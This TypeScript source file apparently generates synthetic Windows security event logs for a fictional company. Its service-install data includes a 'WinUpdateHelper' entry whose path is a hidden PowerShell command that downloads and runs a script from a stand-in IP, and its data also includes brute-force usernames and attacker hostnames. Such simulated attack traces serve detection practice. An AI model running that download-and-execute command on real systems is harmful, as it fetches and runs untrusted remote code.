import { EVENTS } from '../catalog.ts';
import { TS, type Ctx, type TableGen } from '../context.ts';
import { ORG } from '../org.ts';
import { lit, makeDim } from '../sql.ts';
import { attackerIp, FIRST_WS, fill, hex, hostIdx, laCommon, processDim, svcPick, WORKSTATIONS } from './common.ts';

const LOGON_TYPE_NAMES: Record<number, string> = {
  2: 'Interactive', 3: 'Network', 4: 'Batch', 5: 'Service', 7: 'Unlock', 8: 'NetworkCleartext', 9: 'NewCredentials', 10: 'RemoteInteractive', 11: 'CachedInteractive',
};

const PRIVS = [
  'SeSecurityPrivilege\r\n\t\t\tSeBackupPrivilege\r\n\t\t\tSeRestorePrivilege\r\n\t\t\tSeTakeOwnershipPrivilege\r\n\t\t\tSeDebugPrivilege\r\n\t\t\tSeSystemEnvironmentPrivilege\r\n\t\t\tSeLoadDriverPrivilege\r\n\t\t\tSeImpersonatePrivilege\r\n\t\t\tSeDelegateSessionUserImpersonatePrivilege\r\n\t\t\tSeEnableDelegationPrivilege',
  'SeAssignPrimaryTokenPrivilege\r\n\t\t\tSeTcbPrivilege\r\n\t\t\tSeSecurityPrivilege\r\n\t\t\tSeTakeOwnershipPrivilege\r\n\t\t\tSeLoadDriverPrivilege\r\n\t\t\tSeBackupPrivilege\r\n\t\t\tSeRestorePrivilege\r\n\t\t\tSeDebugPrivilege\r\n\t\t\tSeAuditPrivilege\r\n\t\t\tSeSystemEnvironmentPrivilege\r\n\t\t\tSeImpersonatePrivilege\r\n\t\t\tSeDelegateSessionUserImpersonatePrivilege',
  'SeImpersonatePrivilege',
];

const BRUTE_NAMES = ['administrator', 'Administrator', 'admin', 'ADMINISTRATOR', 'user', 'test', 'guest', 'scanner', 'backup', 'support', 'sql', 'rdp', 'user1', 'ADMIN', 'Reception'];
const BRUTE_WS = ['-', 'kali', 'WIN-8D1K5LL2U7Q', 'DESKTOP-OQ2F4KJ', 'WORKSTATION', 'localhost', 'vultr-guest'];
const SPN = ['LK-FS01$', 'LK-FS02$', 'LK-SQL01$', 'LK-EXCH01$', 'LK-DC01$', 'LK-DC02$', 'LK-APP01$', 'LK-APP02$', 'svc_sql', 'LK-PRN01$', 'LK-SCCM01$', 'krbtgt', 'LK-CA01$', 'svc_web'];
const GROUPS: [string, string, string][] = [
  ['Administrators', 'Builtin', 'S-1-5-32-544'], ['Remote Desktop Users', 'Builtin', 'S-1-5-32-555'], ['Backup Operators', 'Builtin', 'S-1-5-32-551'], ['Users', 'Builtin', 'S-1-5-32-545'],
];
const SHARES: [string, string, number][] = [
  ['\\\\*\\IPC$', '', 40], ['\\\\*\\SYSVOL', '\\??\\C:\\Windows\\SYSVOL\\sysvol', 20], ['\\\\*\\NETLOGON', '\\??\\C:\\Windows\\SYSVOL\\sysvol\\larkspur.example\\SCRIPTS', 10],
  ['\\\\*\\Shared', '\\??\\D:\\Shares\\Shared', 15], ['\\\\*\\Finance', '\\??\\D:\\Shares\\Finance', 6], ['\\\\*\\Home$', '\\??\\D:\\Home', 8], ['\\\\*\\C$', '\\??\\C:\\', 1], ['\\\\*\\ADMIN$', '\\??\\C:\\Windows', 0.5],
];
const SERVICES: [string, string][] = [
  ['Larkspur Endpoint Agent', 'C:\\Program Files\\Larkspur\\Agent\\lkagent.exe'], ['Veeam Installer Service', 'C:\\Windows\\Veeam\\Backup\\VeeamDeploymentSvc.exe'],
  ['Google Update Service (gupdate)', '"C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe" /svc'], ['PSEXESVC', '%SystemRoot%\\PSEXESVC.exe'],
  ['WinUpdateHelper', 'cmd.exe /c powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'http://203.0.113.66/s\')"'],
];

export const securityEvent: TableGen = {
  name: 'SecurityEvent',
  share: 34,
  build(ctx: Ctx, lo: number, hi: number, n: number) {
    const r = ctx.r;
    const ev = ctx.dim('se:ev', () =>
      makeDim('ev', EVENTS.map((e) => ({ id: e.id, act: `${e.id} - ${e.text}`, task: e.task, where: e.where, fail: !!e.failure })), EVENTS.map((e) => e.weight), 100000),
    );
    const rds = hostIdx('LK-RDS01');
    const jump = hostIdx('LK-JUMP01');
    const svc = svcPick(r, 'svc');
    const brutePick = r.pick('bn', BRUTE_NAMES);
    const pipe = ctx
      .base('mixed', lo, hi, n)
      .pick(ev, 'ev')
      .pick(ctx.users('u'), 'u')
      .pick(ctx.users('a', (admin) => admin), 'a')
      .pick(ctx.hosts('hw', ['dc', 'server', 'workstation']), 'hw')
      .pick(ctx.hosts('hd', ['dc']), 'hd')
      .pick(ctx.hosts('hs', ['server']), 'hs')
      .pick(processDim(ctx), 'pr')
      .extend({ brute: `ev_id = 4625 AND ${r.chance('brute', 0.55)}` })
      .join(ctx.hosts('sw'), `CASE WHEN u_ws >= 0 AND ${r.chance('ownws', 0.85)} THEN u_ws ELSE ${FIRST_WS} + ${r.m('ws', WORKSTATIONS.length)} END`)
      .join(
        ctx.hosts('h'),
        `CASE WHEN brute THEN ${r.wpick('bh', [[rds, 8], [jump, 1]])}
          WHEN ev_id = 4688 AND pr_hosts = 'workstation' THEN sw_gidx
          WHEN ev_id = 4688 AND pr_hosts = 'server' THEN hs_gidx
          WHEN ev_id IN (4624, 4634, 4672) AND ${r.chance('wsl', 0.35)} THEN sw_gidx
          WHEN ev_where = 'dc' THEN hd_gidx WHEN ev_where = 'server' THEN hs_gidx ELSE hw_gidx END`,
      )
      .extend({
        ak: `CASE WHEN ev_id = 4688 THEN pr_account
          WHEN ev_id = 4672 THEN ${r.wpick('ak1', [['system', 50], ['admin', 30], ['service', 15], ['machine', 5]])}
          WHEN ev_id IN (4768, 4769, 4776) THEN ${r.wpick('ak2', [['user', 70], ['machine', 25], ['service', 5]])}
          WHEN ev_id = 4625 THEN CASE WHEN brute THEN 'brute' ELSE 'user' END
          WHEN ev_id IN (4648, 5140, 4798, 4799) THEN ${r.wpick('ak3', [['user', 75], ['admin', 15], ['machine', 10]])}
          WHEN ev_id IN (4720, 4722, 4724, 4738, 4728, 4732, 1102, 4719, 4697) THEN 'admin'
          WHEN ev_id = 4740 THEN 'machine'
          ELSE ${r.wpick('ak4', [['user', 55], ['machine', 18], ['system', 14], ['admin', 8], ['service', 5]])} END`,
        pid: `${r.int('pid', 400, 65000)} // 4 * 4`,
        ppid: `${r.int('ppid', 400, 65000)} // 4 * 4`,
        lid: r.int('lid', 0x10000, 0x7fffffff),
      })
      .extend({
        an: `CASE ak WHEN 'user' THEN u_sam WHEN 'admin' THEN 'adm-' || a_sam WHEN 'machine' THEN (CASE WHEN ev_id IN (4624, 4634, 4768, 4769, 4776, 5140, 4648, 4798, 4799) THEN sw_name ELSE h_name END) || '$'
          WHEN 'system' THEN 'SYSTEM' WHEN 'service' THEN ${svc.name} ELSE ${brutePick} END`,
        ad: `CASE ak WHEN 'system' THEN 'NT AUTHORITY' WHEN 'brute' THEN '' ELSE ${lit(ORG.netbios)} END`,
        asid: `CASE ak WHEN 'user' THEN u_sid WHEN 'admin' THEN ${lit(ORG.domainSid)} || '-' || (2100 + a_gidx)::VARCHAR
          WHEN 'machine' THEN ${lit(ORG.domainSid)} || '-' || (3100 + (CASE WHEN ev_id IN (4624, 4634, 4768, 4769, 4776, 5140, 4648, 4798, 4799) THEN sw_gidx ELSE h_gidx END))::VARCHAR WHEN 'system' THEN 'S-1-5-18'
          WHEN 'service' THEN ${svc.sid} ELSE 'S-1-0-0' END`,
        lt: `CASE WHEN ev_id IN (4624, 4634) THEN (CASE ak WHEN 'system' THEN 5 WHEN 'machine' THEN 3
              WHEN 'service' THEN ${r.wpick('lt1', [[5, 70], [4, 30]])} WHEN 'admin' THEN ${r.wpick('lt2', [[10, 40], [3, 40], [2, 20]])}
              ELSE ${r.wpick('lt3', [[3, 52], [2, 10], [11, 8], [7, 14], [10, 3], [9, 1]])} END)
            WHEN ev_id = 4625 THEN (CASE WHEN brute THEN ${r.wpick('lt4', [[3, 70], [10, 30]])} ELSE ${r.wpick('lt5', [[2, 30], [3, 50], [7, 15], [10, 5]])} END)
            ELSE NULL END`,
      })
      .extend({
        ip: `CASE WHEN brute THEN ${attackerIp(r, 'bip')}
          WHEN ev_id IN (4768, 4769) THEN '::ffff:' || sw_ip
          WHEN ev_id IN (5140) THEN sw_ip
          WHEN lt = 3 THEN sw_ip WHEN lt = 10 THEN (CASE WHEN h_gidx = ${jump} THEN sw_ip ELSE '10.10.9.5' END)
          WHEN lt IN (2, 7, 11) THEN '127.0.0.1' WHEN lt IN (4, 5) THEN '-' WHEN ev_id = 4648 THEN '-' ELSE '' END`,
        ws: `CASE WHEN brute THEN ${r.pick('bws', BRUTE_WS)} WHEN lt IN (3, 10) OR ev_id = 4776 THEN sw_name WHEN lt IS NOT NULL THEN h_name ELSE '' END`,
        ok: `CASE WHEN ev_id IN (4768, 4769, 4776) THEN ${r.chance('kfail', 0.97)} ELSE NOT ev_fail END`,
      });

    const ev_ = (ids: number[], then: string, otherwise = "''") => `CASE WHEN ev_id IN (${ids.join(', ')}) THEN ${then} ELSE ${otherwise} END`;
    const SUBJECT_IS_ACCT = [4672, 4688, 4648, 5140, 4798, 4799, 4720, 4722, 4724, 4738, 4728, 4732, 1102, 4719, 4697, 4740];
    const TARGET_IS_ACCT = [4624, 4625, 4634, 4768, 4776];
    const accountStr = `CASE WHEN ad = '' THEN an ELSE ad || '\\' || an END`;
    const groupIdx = r.m('grp', GROUPS.length);
    const grp = (k: 0 | 1 | 2) => `list_element([${GROUPS.map((g) => lit(g[k])).join(', ')}], 1 + ${groupIdx})`;
    const shareIdx = r.wpick('sh', SHARES.map((s, k) => [k, s[2]] as const));
    const svcIdx = r.wpick('svi', SERVICES.map((s, k) => [k, k < 3 ? 10 : 1] as const));
    const newUser = `CASE WHEN ${r.chance('nu', 0.7)} THEN u_sam ELSE 'temp.contractor' || ${r.int('nun', 1, 40)}::VARCHAR END`;
    const subjectMachine = `h_name || '$'`;
    const status = `CASE WHEN ev_id = 4625 THEN '0xc000006d' WHEN ev_id IN (4768, 4769) THEN (CASE WHEN ok THEN '0x0' ELSE ${r.pick('kst', ['0x18', '0x6', '0x12'])} END)
      WHEN ev_id = 4776 THEN (CASE WHEN ok THEN '0x0' ELSE '0xc000006a' END) ELSE '' END`;

    const cols: Record<string, string> = {
      ...laCommon('SecurityEvent', `${r.int('size', 900, 1900)}::DOUBLE`),
      TimeGenerated: TS('t_ns'),
      SourceSystem: `'OpsManager'`,
      Computer: 'h_fqdn',
      EventSourceName: `'Microsoft-Windows-Security-Auditing'`,
      Channel: `'Security'`,
      EventID: 'ev_id',
      Activity: 'ev_act',
      Task: 'ev_task',
      Level: `CASE WHEN ok THEN '8' ELSE '16' END`,
      Keywords: `CASE WHEN ok THEN '0x8020000000000000' ELSE '0x8010000000000000' END`,
      EventRecordId: `(${r.int('rec', 1000, 90000)} * 1000 + i % 1000)::VARCHAR`,
      Version: `CASE WHEN ev_id = 4624 THEN 2 WHEN ev_id IN (4688, 4768, 4769) THEN 1 ELSE 0 END`,
      ManagementGroupName: lit(`AOI-${ORG.workspaceId}`),
      SourceComputerId: 'h_agent',
      _ResourceId: `'/subscriptions/${ORG.subscriptionId}/resourcegroups/lk-servers/providers/microsoft.hybridcompute/machines/' || lower(h_name)`,
      SystemProcessId: `CASE WHEN ev_id IN (4768, 4769, 4776, 4624, 4625) THEN 700 + h_gidx * 4 ELSE 4 END`,
      SystemThreadId: `${r.int('tid', 100, 20000)}::INTEGER`,
      Account: `CASE WHEN ev_id IN (4769) THEN an || '@LARKSPUR.EXAMPLE' WHEN ev_id IN (4740) THEN ${lit(ORG.netbios)} || '\\' || u_sam ELSE ${accountStr} END`,
      AccountType: `CASE WHEN an LIKE '%$' THEN 'Machine' ELSE 'User' END`,
      AccountName: `CASE WHEN ev_id IN (4740) THEN u_sam ELSE an END`,
      AccountDomain: 'ad',
      SubjectUserName: `CASE WHEN ev_id IN (${SUBJECT_IS_ACCT}) THEN an WHEN ev_id IN (4624, 4625) THEN (CASE WHEN lt = 3 OR brute THEN '-' ELSE ${subjectMachine} END) ELSE '' END`,
      SubjectDomainName: `CASE WHEN ev_id IN (${SUBJECT_IS_ACCT}) THEN ad WHEN ev_id IN (4624, 4625) THEN (CASE WHEN lt = 3 OR brute THEN '-' ELSE ${lit(ORG.netbios)} END) ELSE '' END`,
      SubjectUserSid: `CASE WHEN ev_id IN (${SUBJECT_IS_ACCT}) THEN asid WHEN ev_id IN (4624, 4625) THEN (CASE WHEN lt = 3 OR brute THEN 'S-1-0-0' ELSE 'S-1-5-18' END) ELSE '' END`,
      SubjectLogonId: `CASE WHEN ev_id IN (${SUBJECT_IS_ACCT}) THEN (CASE WHEN ak = 'system' THEN '0x3e7' ELSE ${hex('lid')} END) WHEN ev_id IN (4624, 4625) THEN (CASE WHEN lt = 3 OR brute THEN '0x0' ELSE '0x3e7' END) ELSE '' END`,
      SubjectAccount: `CASE WHEN ev_id IN (${SUBJECT_IS_ACCT}) THEN ${accountStr} WHEN ev_id IN (4624, 4625) THEN (CASE WHEN lt = 3 OR brute THEN '-\\-' ELSE ${lit(ORG.netbios)} || '\\' || ${subjectMachine} END) ELSE '' END`,
      TargetUserName: `CASE WHEN ev_id IN (${TARGET_IS_ACCT}) THEN an WHEN ev_id = 4769 THEN an || '@LARKSPUR.EXAMPLE' WHEN ev_id = 4648 THEN 'adm-' || a_sam
        WHEN ev_id IN (4720, 4722, 4724, 4738) THEN ${newUser} WHEN ev_id IN (4740, 4798) THEN u_sam WHEN ev_id IN (4732, 4799) THEN ${grp(0)} WHEN ev_id = 4728 THEN 'Domain Admins' ELSE '' END`,
      TargetDomainName: `CASE WHEN ev_id IN (${TARGET_IS_ACCT}) THEN ad WHEN ev_id IN (4769, 4768) THEN 'LARKSPUR.EXAMPLE' WHEN ev_id IN (4648, 4720, 4722, 4724, 4738, 4728) THEN ${lit(ORG.netbios)}
        WHEN ev_id = 4740 THEN sw_name WHEN ev_id = 4798 THEN ${lit(ORG.netbios)} WHEN ev_id IN (4732, 4799) THEN ${grp(1)} ELSE '' END`,
      TargetUserSid: ev_([4624, 4625, 4634], 'asid'),
      TargetSid: `CASE WHEN ev_id IN (4768, 4720, 4722, 4724, 4738, 4740, 4798) THEN (CASE WHEN ev_id = 4768 THEN asid ELSE u_sid END) WHEN ev_id IN (4732, 4799) THEN ${grp(2)} WHEN ev_id = 4728 THEN ${lit(`${ORG.domainSid}-512`)} ELSE '' END`,
      TargetAccount: `CASE WHEN ev_id IN (${TARGET_IS_ACCT}) THEN ${accountStr} WHEN ev_id IN (4720, 4722, 4724, 4738, 4740) THEN ${lit(ORG.netbios)} || '\\' || ${newUser} ELSE '' END`,
      TargetLogonId: ev_([4624, 4634], hex(`lid + 1`)),
      TargetLinkedLogonId: ev_([4624], `'0x0'`),
      TargetOutboundUserName: ev_([4624], `'-'`),
      TargetOutboundDomainName: ev_([4624], `'-'`),
      TargetServerName: ev_([4648], r.pick('tsn', ['LK-FS01.larkspur.example', 'localhost', 'LK-SQL01.larkspur.example', 'LK-JUMP01.larkspur.example'])),
      TargetInfo: ev_([4648], `'LK-FS01.larkspur.example'`),
      LogonType: 'lt',
      LogonTypeName: `CASE WHEN lt IS NULL THEN '' ELSE lt::VARCHAR || ' - ' || list_element([${Array.from({ length: 11 }, (_, k) => lit(LOGON_TYPE_NAMES[k + 1] ?? '')).join(', ')}], lt) END`,
      LogonProcessName: `CASE WHEN lt IS NULL THEN '' WHEN lt IN (2, 7, 10, 11) THEN 'User32 ' WHEN lt IN (4, 5) THEN 'Advapi  ' WHEN brute OR ev_id = 4625 THEN 'NtLmSsp ' WHEN ${r.chance('lpk', 0.7)} THEN 'Kerberos' ELSE 'NtLmSsp ' END`,
      AuthenticationPackageName: `CASE WHEN lt IS NULL THEN (CASE WHEN ev_id = 4776 THEN 'MICROSOFT_AUTHENTICATION_PACKAGE_V1_0' ELSE '' END) WHEN lt IN (2, 4, 5, 7, 10, 11) THEN 'Negotiate' WHEN brute OR ev_id = 4625 THEN 'NTLM' WHEN ${r.chance('lpk', 0.7)} THEN 'Kerberos' ELSE 'NTLM' END`,
      LmPackageName: `CASE WHEN lt = 3 AND NOT ${r.chance('lpk', 0.7)} THEN 'NTLM V2' WHEN lt IS NOT NULL THEN '-' ELSE '' END`,
      KeyLength: `CASE WHEN ev_id = 4624 THEN 0 ELSE NULL END`,
      WorkstationName: 'ws',
      Workstation: ev_([4776], 'sw_name'),
      IpAddress: 'ip',
      IpPort: `CASE WHEN ip IN ('-', '127.0.0.1', '') THEN (CASE WHEN ip = '' THEN '' WHEN ip = '-' THEN '-' ELSE '0' END) ELSE ${r.int('port', 49152, 65535)}::VARCHAR END`,
      LogonGuid: ev_([4624, 4648, 4769], `CASE WHEN lt = 3 OR ev_id IN (4648, 4769) THEN '{' || ${r.guid('lg')} || '}' ELSE '{00000000-0000-0000-0000-000000000000}' END`),
      ElevatedToken: ev_([4624], `CASE WHEN ak IN ('admin', 'system', 'service') THEN '%%1842' ELSE '%%1843' END`),
      VirtualAccount: ev_([4624], `'%%1843'`),
      RestrictedAdminMode: ev_([4624], `CASE WHEN lt = 10 THEN '%%1843' ELSE '-' END`),
      Status: status,
      SubStatus: ev_([4625], `CASE WHEN brute THEN ${r.wpick('sst', [['0xc0000064', 60], ['0xc000006a', 40]])} ELSE ${r.wpick('sst2', [['0xc000006a', 85], ['0xc0000234', 8], ['0xc0000072', 4], ['0xc0000071', 3]])} END`),
      FailureReason: ev_([4625], `'%%2313'`),
      ProcessName: `CASE WHEN ev_id IN (4624, 4625) THEN (CASE WHEN lt IN (2, 7, 10, 11) THEN 'C:\\Windows\\System32\\svchost.exe' WHEN lt IN (4, 5) THEN 'C:\\Windows\\System32\\services.exe' WHEN brute THEN '-' ELSE '-' END)
        WHEN ev_id = 4648 THEN ${r.pick('p48', ['C:\\Windows\\System32\\svchost.exe', 'C:\\Windows\\System32\\runas.exe', 'C:\\Windows\\System32\\lsass.exe', 'C:\\Windows\\System32\\mstsc.exe'])} ELSE '' END`,
      ProcessId: `CASE WHEN ev_id = 4688 THEN ${hex('ppid')} WHEN ev_id IN (4624, 4625, 4648) THEN (CASE WHEN lt = 3 OR brute THEN '0x0' ELSE ${hex('pid')} END) ELSE '' END`,
      Process: ev_([4688], 'pr_pfile'),
      NewProcessName: ev_([4688], fill(r, 'pr_path', 'u_sam', 'f1')),
      NewProcessId: ev_([4688], hex('pid')),
      CommandLine: ev_([4688], fill(r, 'pr_cmd', 'u_sam', 'f1')),
      ParentProcessName: ev_([4688], fill(r, 'pr_parent', 'u_sam', 'f1')),
      TokenElevationType: ev_([4688], `CASE ak WHEN 'user' THEN '%%1938' WHEN 'admin' THEN '%%1937' ELSE '%%1936' END`),
      MandatoryLabel: ev_([4688], `CASE ak WHEN 'user' THEN 'S-1-16-8192' WHEN 'admin' THEN 'S-1-16-12288' ELSE 'S-1-16-16384' END`),
      PrivilegeList: ev_([4672], `CASE ak WHEN 'system' THEN ${lit(PRIVS[1]!)} WHEN 'service' THEN ${lit(PRIVS[2]!)} ELSE ${lit(PRIVS[0]!)} END`),
      ServiceName: `CASE WHEN ev_id = 4768 THEN 'krbtgt' WHEN ev_id = 4769 THEN ${r.pick('spn', SPN)} WHEN ev_id = 4697 THEN list_element([${SERVICES.map((s) => lit(s[0])).join(', ')}], 1 + ${svcIdx}) ELSE '' END`,
      ServiceFileName: ev_([4697], `list_element([${SERVICES.map((s) => lit(s[1])).join(', ')}], 1 + ${svcIdx})`),
      ServiceType: ev_([4697], `'0x10'`),
      ServiceStartType: `CASE WHEN ev_id = 4697 THEN ${r.pick('sst3', [2, 3])} ELSE NULL END`,
      ServiceAccount: ev_([4697], `'LocalSystem'`),
      ShareName: ev_([5140], `list_element([${SHARES.map((s) => lit(s[0])).join(', ')}], 1 + ${shareIdx})`),
      ShareLocalPath: ev_([5140], `list_element([${SHARES.map((s) => lit(s[1])).join(', ')}], 1 + ${shareIdx})`),
      ObjectType: ev_([5140], `'File'`),
      AccessMask: ev_([5140], `'0x1'`),
      CallerProcessName: ev_([4798, 4799], r.pick('cpn', ['C:\\Windows\\System32\\net1.exe', 'C:\\Windows\\System32\\mmc.exe', 'C:\\Windows\\explorer.exe', 'C:\\Windows\\System32\\svchost.exe', 'C:\\Windows\\System32\\LogonUI.exe'])),
      CallerProcessId: ev_([4798, 4799], hex('ppid')),
      MemberName: ev_([4728, 4732], `'CN=' || u_display || ',OU=Staff,DC=larkspur,DC=example'`),
      MemberSid: ev_([4728, 4732], 'u_sid'),
      SamAccountName: ev_([4720, 4738], newUser),
      DisplayName: ev_([4720], `CASE WHEN ${r.chance('nu', 0.7)} THEN u_display ELSE 'Temp Contractor' END`),
      UserPrincipalName: ev_([4720], `${newUser} || '@larkspur.example'`),
      UserAccountControl: ev_([4720, 4738], `CASE WHEN ev_id = 4720 THEN '%%2080 %%2082 %%2084' ELSE '-' END`),
      NewUacValue: ev_([4720, 4738], `'0x15'`),
      OldUacValue: ev_([4720, 4738], `CASE WHEN ev_id = 4720 THEN '0x0' ELSE '0x15' END`),
      PasswordLastSet: ev_([4720, 4724, 4738], `'%%1794'`),
      PrimaryGroupId: ev_([4720], `'513'`),
      AuditPolicyChanges: ev_([4719], `'%%8449'`),
      CategoryId: ev_([4719], `'%%8274'`),
      SubcategoryId: ev_([4719], `'%%12544'`),
      SubcategoryGuid: ev_([4719], `'{0CCE9215-69AE-11D9-BED3-505054503030}'`),
    };
    return { pipe, cols };
  },
};
